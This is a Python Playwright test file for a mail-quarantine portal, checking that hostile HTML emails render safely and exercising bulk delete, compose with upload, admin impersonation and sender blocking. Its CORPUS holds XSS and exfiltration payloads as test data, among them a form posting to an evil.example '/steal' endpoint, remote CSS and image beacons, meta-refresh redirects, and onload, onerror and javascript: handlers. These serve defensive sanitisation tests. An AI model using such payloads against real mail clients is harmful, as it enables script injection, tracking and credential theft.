"""The mailbox user's mail in chromium: a hostile corpus, bulk actions, compose with an upload."""

from __future__ import annotations

from pathlib import Path

import pytest
from flask import Flask
from playwright.sync_api import Page, expect

from portal.extensions import db
from portal.integrations.mailstore import MaildirStore, maildir_root
from portal.models import Domain
from tests.mime import nested
from tests.services_runtime import smtp_server
from tests.world import PASSWORD, World

pytestmark = pytest.mark.browser

EVIL = "evil.example"


def _html(fuglu_id: str, html: str, content_type: str = "text/html") -> bytes:
    return (f"From: attacker@bad.example\r\nSubject: {fuglu_id}\r\nX-Fuglu-Id: {fuglu_id}\r\n"
            f"MIME-Version: 1.0\r\nContent-Type: {content_type}; charset=utf-8\r\n\r\n{html}\r\n").encode()


def _nested(depth: int) -> bytes:
    return nested(b"From: a@bad.example\r\nSubject: nested\r\nX-Fuglu-Id: nested\r\nMIME-Version: 1.0\r\n",
                  b"<p>deep</p><img src=https://evil.example/deep.png>", depth)


CORPUS = {
    "css": _html("css", f'<style>@import url(https://{EVIL}/x.css);</style>'
                        f'<p style="background:url(https://{EVIL}/bg.png)">css</p>'),
    "srcset": _html("srcset", f'<img srcset="https://{EVIL}/a.png 1x" src="cid:x"><picture>'
                              f'<source srcset="https://{EVIL}/b.png"><img src="cid:y"></picture><p>srcset</p>'),
    "base-meta": _html("base-meta", f'<base href="https://{EVIL}/"><meta http-equiv="refresh" '
                                    f'content="0;url=https://{EVIL}/"><p><a href="/rel">base</a></p>'),
    "form": _html("form", f'<form action="https://{EVIL}/steal"><input name="p"><button>go</button></form><p>form</p>'),
    "svg-math": _html("svg-math", '<svg onload="alert(1)"><script>alert(2)</script></svg>'
                                  '<math><mtext><img src=x onerror=alert(3)></mtext></math><p>svg</p>'),
    "handlers": _html("handlers", '<p onmouseover="alert(1)" hx-get="/me/" data-x="1">handlers</p>'
                                  '<a href="javascript:alert(4)">js</a><iframe src="javascript:alert(5)"></iframe>'),
    "lying": _html("lying", "<script>alert(6)</script><p>lying</p>", content_type="text/plain"),
    "charset": ("From: a@bad.example\r\nSubject: =?x-unknown?B?////?=\r\nX-Fuglu-Id: charset\r\n"
                "Content-Type: text/html; charset=x-unknown\r\n\r\n<p>\xff\xfe charset</p>\r\n").encode("latin-1"),
    "broken": (b"From: a@bad.example\r\nSubject: broken\r\nX-Fuglu-Id: broken\r\nMIME-Version: 1.0\r\n"
               b"Content-Type: multipart/alternative; boundary=\"zz\"\r\n\r\n--zz\r\nContent-Type: text/html\r\n"
               b"Content-Transfer-Encoding: base64\r\n\r\n!!!not base64<script>alert(7)</script>\r\n"),  # no end
    "nested": _nested(60),
    "abyss": _nested(3000).replace(b"X-Fuglu-Id: nested", b"X-Fuglu-Id: abyss"),
}


def _store(app: Flask, messages: dict[str, bytes]) -> None:
    """Held messages, written by the store itself (the stdlib's Maildir would parse them, and choke)."""
    with app.app_context():
        store = MaildirStore(maildir_root(Path(app.config["MAIL_ROOT"]), "user@a.example"))
        for raw in messages.values():
            store.append("Quarantine", raw)


def _log_in(page: Page, live_url: str) -> None:
    page.goto(f"{live_url}/me/login")
    page.fill("#f-email", "user@a.example")
    page.fill("#f-password", PASSWORD)
    page.click("button[type=submit]:has-text('Log in')")


def test_hostile_corpus_in_the_browser(app: Flask, page: Page, live_url: str, world: World) -> None:
    """No dialog fires, no request leaves for another host, the frame reaches nothing of the page."""
    _store(app, CORPUS)
    dialogs: list[str] = []
    remote: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: remote.append(request.url) if _leaves(request.url) else None)
    _log_in(page, live_url)
    page.goto(f"{live_url}/me/quarantine")
    expect(page.locator("#quarantine")).to_contain_text("nested")
    for fuglu_id in CORPUS:
        response = page.goto(f"{live_url}/me/quarantine/message?id={fuglu_id}")
        assert response is not None and response.status == 200, fuglu_id
        frame = page.locator("#message-body")
        if frame.count():
            assert page.evaluate("document.getElementById('message-body').contentDocument") is None, fuglu_id
            links = page.frame_locator("#message-body").locator("a")
            if links.count():
                links.first.click()
        page.wait_for_timeout(150)
        assert page.url.startswith(live_url), fuglu_id  # neither base, meta refresh nor a link moved the page
    assert dialogs == [] and remote == []
    assert page.locator("#message-text").count() or page.locator("#message-body").count()


@pytest.fixture
def relay(app: Flask, world: World):  # type: ignore[no-untyped-def]
    with smtp_server() as (sink, port):
        with app.app_context():
            db.session.get(Domain, world.pk["A"]).platforms[0].transport_port = port
            db.session.commit()
        yield sink


def test_select_all_and_delete(app: Flask, page: Page, live_url: str, world: World) -> None:
    _store(app, {k: CORPUS[k] for k in ("css", "form")})
    questions: list[str] = []
    page.on("dialog", lambda dialog: (questions.append(dialog.message), dialog.accept()))
    _log_in(page, live_url)
    page.goto(f"{live_url}/me/quarantine")
    expect(page.locator("#quarantine tbody tr")).to_have_count(4)
    page.check("#select-all")
    expect(page.locator("#quarantine input[name=ids]:checked")).to_have_count(4)
    page.click("#bulk-actions button[value=delete]")
    expect(page.locator(".flash-success")).to_contain_text("4 messages deleted")
    expect(page.locator("#quarantine")).to_contain_text("Your quarantine is empty")
    assert questions and "Delete" in questions[0]


def test_compose_with_an_upload(app: Flask, page: Page, live_url: str, world: World, relay, tmp_path: Path) -> None:
    upload = tmp_path / "figures.csv"
    upload.write_bytes(b"a,b\n" * 50_000)
    _log_in(page, live_url)
    page.click("nav >> text=Write")
    page.set_input_files("#f-file", str(upload))
    page.click("#upload-form button[type=submit]")
    expect(page.locator("#attachment-list")).to_contain_text("figures.csv")
    expect(page.locator("#upload-progress")).to_be_hidden()
    page.fill("#f-to", "bob@b.example")
    page.fill("#f-subject", "Figures")
    page.fill("#f-body", "Here they are.")
    page.click("#send")
    expect(page.locator(".flash-success")).to_contain_text("sent to 1 recipient")
    (_sender, recipients, raw), = relay.messages
    assert recipients == ["bob@b.example"] and b'filename="figures.csv"' in raw
    expect(page.locator("#attachment-list")).to_contain_text("No file attached")


def _leaves(url: str) -> bool:
    """A request for another host (cid: and data: ones stay in the page and fail there)."""
    return url.startswith(("http:", "https:", "//")) and not url.startswith("http://127.0.0.1:")


def test_view_as_journey(app: Flask, page: Page, live_url: str, world: World) -> None:
    """A domain admin opens a user's portal, blocks a sender there, comes back and reads the trail."""
    _store(app, {"form": CORPUS["form"]})
    page.on("dialog", lambda dialog: dialog.accept())
    page.goto(f"{live_url}/login")
    page.fill("#f-login", "admin-a")
    page.fill("#f-password", PASSWORD)
    page.click("button[type=submit]:has-text('Log in')")
    page.goto(f"{live_url}/admin/users/{world.id('userA')}")
    page.click("#view-as")
    expect(page.locator("#impersonation")).to_contain_text("user@a.example")
    page.click("nav >> text=My quarantine")
    page.locator("#quarantine tr", has_text="form").locator("input[name=ids]").check()
    page.click("#bulk-actions button[value=block]")
    expect(page.locator(".flash-success")).to_contain_text("attacker@bad.example")
    page.click("#impersonation button")
    expect(page.locator("h1")).to_contain_text("user@a.example")
    page.click("nav >> text=Audit")
    rows = page.locator("#audit tbody tr")
    expect(rows).to_have_count(3)
    expect(page.locator("#audit")).to_contain_text("IMPERSONATE_START")
    expect(page.locator("#audit")).to_contain_text("quarantine_bulk")


def test_block_and_delete_from_the_message_page(app: Flask, page: Page, live_url: str, world: World) -> None:
    """From the list to a message; block its sender there (the page stays, with the outcome); delete it there
    (asked first, then back to the list, which no longer holds it)."""
    _store(app, {"pills": b"From: Pills <pills@spam.example>\r\nSubject: Cheap pills\r\nX-Fuglu-Id: pills\r\n"
                          b"X-Quarantine-Reason: SPAM\r\n\r\nbuy\r\n"})
    questions: list[str] = []
    page.on("dialog", lambda dialog: (questions.append(dialog.message), dialog.accept()))
    _log_in(page, live_url)
    page.goto(f"{live_url}/me/quarantine")
    page.click("#quarantine a:has-text('Cheap pills')")
    expect(page.locator("#subject")).to_have_text("Cheap pills")
    page.click("#sender-form button[value=block]")
    expect(page.locator(".flash-success")).to_contain_text("pills@spam.example")
    expect(page.locator("#subject")).to_have_text("Cheap pills")
    assert "/me/quarantine/message" in page.url and questions == []
    page.click("#delete-form button[value=delete]")
    expect(page.locator(".flash-success")).to_contain_text("1 message deleted")
    expect(page.locator("#quarantine")).not_to_contain_text("Cheap pills")
    assert page.url.endswith("/me/quarantine") and questions and "Delete" in questions[0]
    page.goto(f"{live_url}/me/senders")
    expect(page.locator("#senders-table")).to_contain_text("pills@spam.example")
